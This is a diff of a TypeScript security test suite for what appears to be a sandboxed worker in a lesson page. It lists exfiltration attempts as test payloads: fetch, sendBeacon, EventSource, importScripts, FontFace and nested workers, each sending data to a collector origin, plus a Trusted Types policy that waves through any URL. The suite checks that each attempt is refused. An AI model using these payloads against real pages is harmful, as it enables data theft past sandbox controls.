@@ -6,17 +6,17 @@ import { attack, attempting, expectNextRunWorks, UNDER_ATTACK } from './attack-p
 import { codeOf } from './ways-out.ts';
 
 /** The worker's own way to say yes to an address: the policy on Trusted Types is no boundary in there. */
-const TRUST = "const { createScriptURL } = trustedTypes.createPolicy('wb-sandbox', { createScriptURL: (url) => url });";
+const TRUST = "const trust = trustedTypes.createPolicy('wb-sandbox', { createScriptURL: (url) => url });";
 
 /** A program that takes the secret out, as text in the text of a cell. */
 const stealing = ({ origin }: Collector): string =>
   JSON.stringify(
-    `fetch('${origin}/nested', { mode: 'no-cors' }).finally(() => postMessage('done'), setTimeout(close, 100));`,
+    `fetch('${origin}/nested', { mode: 'no-cors' }).catch(() => {}).then(() => postMessage('has tried'));`,
   );
 
 /** Starts a worker of the worker's own and waits until it has tried. */
 const nested = (url: string): string => `${TRUST}
-  const inner = new Worker(createScriptURL(${url}));
+  const inner = new Worker(trust.createScriptURL(${url}));
   await new Promise((resolve, reject) => { inner.onmessage = resolve; inner.onerror = reject; });`;
 
 /** Waits for one of two events of something that connects. */
@@ -32,7 +32,7 @@ const CHANNELS: Readonly<Record<string, (collector: Collector) => string>> = {
   EventSource: ({ origin }) => `const it = new EventSource('${origin}/events'); ${until('open')}`,
   importScripts: ({ origin }) => `importScripts('${origin}/script.js');`,
   'importScripts with a trusted address': ({ origin }) =>
-    `${TRUST} importScripts(createScriptURL('${origin}/script.js'));`,
+    `${TRUST} importScripts(trust.createScriptURL('${origin}/script.js'));`,
   FontFace: ({ origin }) => `await new FontFace('stolen', 'url(${origin}/font)').load();`,
   sendBeacon: ({ origin }) => `navigator.sendBeacon('${origin}/beacon', 'secret');`,
   'a worker in the worker, from a blob': (collector) =>
@@ -55,11 +55,15 @@ describe.for([true, false])('with the prelude: %s', (prelude) => {
     },
   );
 
-  test.for(Object.keys(CHANNELS))('%s takes nothing out', async (name, { serve, openPage, collector }) => {
+  test('no other channel takes anything out', async ({ serve, openPage, collector }) => {
     const page = await openPage((await serve({ prelude })).url(LESSON.en), UNDER_ATTACK);
-    const shown = await attack(page, attempting(CHANNELS[name]!(collector)));
+    const open: string[] = [];
+    for (const [name, attempt] of Object.entries(CHANNELS)) {
+      const shown = await attack(page, attempting(attempt(collector)));
+      if (!shown.includes('was refused')) open.push(name);
+    }
     // A worker in the worker does start when the prelude has not taken it away; it has no more than its maker.
-    if (prelude || !name.startsWith('a worker')) expect(shown).toContain('was refused');
+    expect(open).toEqual(prelude ? [] : Object.keys(CHANNELS).filter((name) => name.startsWith('a worker')));
     await expectNextRunWorks(page);
     expect(collector.hits).toEqual([]);
   });
